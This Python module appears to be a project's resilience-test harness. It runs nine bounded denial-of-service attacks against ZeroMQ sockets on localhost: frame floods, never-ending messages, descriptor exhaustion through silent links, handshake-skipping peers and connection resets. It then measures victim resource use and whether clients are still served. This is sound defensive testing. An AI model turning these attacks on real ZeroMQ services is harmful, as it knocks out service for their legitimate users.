"""Attacks on listening ZMQ sockets by a peer that is no libzmq. `python -m tools.attacks.zmtp` runs all of them.

Each takes where the victim listens and the type of socket that it shall take us for, and is bounded in what it
sends and in time. `run` has one go on beside an innocent client and tells what it cost.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time
from collections.abc import Callable, Sequence
from contextlib import ExitStack
from dataclasses import dataclass

from tools.attacks.rawzmtp import COMMAND, PING, RawPeer, frame, ready
from tools.attacks.victim import Innocent, Report, Usage, Victim

EMPTY, EMPTY_MORE = frame(), frame(more=True)
CHUNK = 65536
BYTES_PER_SECOND = 1_000_000
LULL = 1.0
"""Seconds after an attack in which a victim may work off what has come."""
LIMIT = 30.0
"""Seconds after which an attack ends itself."""


def endpoint_of(address: str) -> str:
    """Of an address of this package, or an endpoint of ZMQ."""
    return address.removeprefix("zmq+router:").removeprefix("zmq+pair:")


def empty_frames(endpoint: str, kind: bytes, count: int) -> None:
    """So many empty frames in one write, each a message: every pair of them begins a stream."""
    with RawPeer(endpoint, kind) as peer:
        peer.socket.settimeout(LIMIT)
        peer.send(EMPTY * count)
        time.sleep(LULL)


def streams_with_bytes(endpoint: str, kind: bytes, count: int) -> None:
    """The same with one byte in each stream, so that none of them is empty."""
    with RawPeer(endpoint, kind) as peer:
        peer.socket.settimeout(LIMIT)
        peer.send((EMPTY + frame(b"x") + EMPTY) * count)
        time.sleep(LULL)


def messages_of_empty_frames(endpoint: str, kind: bytes, count: int, frames: int = 100_000) -> None:
    """Messages of many empty frames, a megabyte in each second; who is thrown out comes again."""
    message = EMPTY_MORE * (frames - 1) + EMPTY
    end = time.monotonic() + LIMIT
    sent = 0
    with ExitStack() as opened:
        peer = opened.enter_context(RawPeer(endpoint, kind))
        while sent < count and time.monotonic() < end:
            if not peer.send(message):
                peer = opened.enter_context(RawPeer(endpoint, kind))
            sent += 1
            time.sleep(len(message) / BYTES_PER_SECOND)
        time.sleep(LULL)


def endless_message(endpoint: str, kind: bytes, count: int, size: int = 1) -> None:
    """Frames of one message, whose last one never comes: libzmq keeps them."""
    piece = frame(bytes(size), more=True)
    batch = max(1, CHUNK // len(piece))
    end = time.monotonic() + LIMIT
    with RawPeer(endpoint, kind) as peer:
        while count > 0 and time.monotonic() < end and peer.send(piece * min(batch, count)):
            count -= batch
        time.sleep(LULL)


def frames_of_a_stranger(endpoint: str, kind: bytes, count: int) -> None:
    """Frames of a message without an end, by who does not shake hands as the victim wants it, in several ways."""
    piece = frame(bytes(200), more=True) * (CHUNK // 202)
    for mechanism in (b"NULL", b"PLAIN", b"CURVE"):
        with RawPeer(endpoint, kind, mechanism=mechanism, shakes_hands=False) as peer:
            peer.send(ready(kind))
            for _ in range(count):
                if not peer.send(piece):
                    break


def heartbeats_and_reset(endpoint: str, kind: bytes, count: int) -> None:
    """Frames with heartbeats between them, faster than they are read, and then no orderly end of the link."""
    ping = frame(PING + b"\0\0", flags=COMMAND)
    for number in range(count):
        with RawPeer(endpoint, kind) as peer:
            peer.socket.settimeout(1.0)
            peer.send(EMPTY + (frame(b"x") * 100 + ping) * 2000)
            time.sleep(LULL * number / count)
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def silent_identities(endpoint: str, kind: bytes, count: int, pause: float = 0.0) -> None:
    """So many links, each with one stream that was begun, and nothing else; `pause` seconds between them."""
    with ExitStack() as opened:
        for number in range(count):
            try:
                peer = opened.enter_context(RawPeer(endpoint, kind, identity=b"silent %d" % number))
            except OSError:
                if pause:
                    continue
                break  # the victim has no more descriptors
            peer.send(EMPTY)
            time.sleep(pause)
        time.sleep(LULL)


def half_greetings(endpoint: str, kind: bytes, count: int) -> None:
    """So many links on which nothing is ever said."""
    with ExitStack() as opened:
        for _ in range(count):
            try:
                opened.enter_context(RawPeer(endpoint, kind, greets=False))
            except OSError:
                break
        time.sleep(LULL)


Attack = Callable[[str, bytes, int], None]

ATTACKS: dict[str, tuple[Attack, int]] = {
    "1,000 empty frames": (empty_frames, 1000),
    "1.4 million empty frames": (empty_frames, 1_400_000),
    "100,000 streams of a byte": (streams_with_bytes, 100_000),
    "20 messages of 100,000 empty frames": (messages_of_empty_frames, 20),
    "an endless message of 4 million frames": (endless_message, 4_000_000),
    "365 silent identities": (silent_identities, 365),
    "365 silent links": (half_greetings, 365),
    "1,000 chunks of frames of a stranger": (frames_of_a_stranger, 1000),
    "20 resets behind heartbeats": (heartbeats_and_reset, 20),
}
KINDS = {
    "zmq+router:": b"DEALER",
    "zmq+pair:": b"PAIR",
}
TARGETS = [
    ("serve", "zmq+router:tcp://127.0.0.1:*"),
    ("serve", "zmq+pair:tcp://127.0.0.1:*"),
    ("aserve", "zmq+router:tcp://127.0.0.1:*"),
    ("fbsp", "tcp://127.0.0.1:*"),
    ("curve", "tcp://127.0.0.1:*"),
]


@dataclass(frozen=True)
class Outcome:
    """What an attack cost, and whether a new client is served behind it; `after` is None if the victim is gone."""

    before: Usage
    worst: Usage | None
    after: Usage | None
    report: Report | None
    served_after: bool


def kind_for(address: str) -> bytes:
    """As what a peer connects there."""
    return next((kind for prefix, kind in KINDS.items() if address.startswith(prefix)), b"DEALER")


def run(victim: Victim, attack: Attack, count: int, *, with_innocent: bool = True, opens: bool = True) -> Outcome:
    """Attack, beside an innocent client unless the victim has a place for one client only.

    With `opens` that one makes new connections, too.
    """
    with ExitStack() as opened:
        innocent = opened.enter_context(Innocent(victim, opens=opens)) if with_innocent else None
        before = victim.usage()
        attack(endpoint_of(victim.address), kind_for(victim.address), count)
        worst = victim.usage() if victim.is_alive else None
    report = None if innocent is None else innocent.report
    served = worst is not None and is_served(victim)
    after = victim.usage_at_rest(before.descriptors) if victim.is_alive else None
    return Outcome(before, worst, after, report, served)


def is_served(victim: Victim) -> bool:
    """Whether a new client is served."""
    with Innocent(victim, opens=False) as client:
        pass
    return client.report is not None and not client.report.failed


def main(args: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m tools.attacks.zmtp", description=__doc__)
    parser.add_argument("--only", default="", help="attacks with this in their names")
    parser.add_argument("--target", default="", help="targets with this in them")
    chosen = parser.parse_args(args)
    for kind, endpoint in TARGETS:
        for name, (attack, count) in ATTACKS.items():
            if chosen.only not in name or chosen.target not in f"{kind} {endpoint}":
                continue
            print(f"{kind} {endpoint}: {name}", flush=True)
            with Victim(kind, endpoint) as victim:
                try:
                    outcome = run(victim, attack, count, with_innocent="pair" not in endpoint)
                except OSError as error:
                    print(f"  the attack came to nothing, or the victim is gone: {error}")
                    continue
                print(f"  before:   {outcome.before}\n  then:     {outcome.worst or 'it is gone'}")
                print(f"  after:    {outcome.after or 'it is gone'}")
                print(f"  innocent: {outcome.report}\n  a new client is served: {outcome.served_after}", flush=True)
            print(f"  it ended with {victim.status}")


if __name__ == "__main__":
    sys.exit(main())
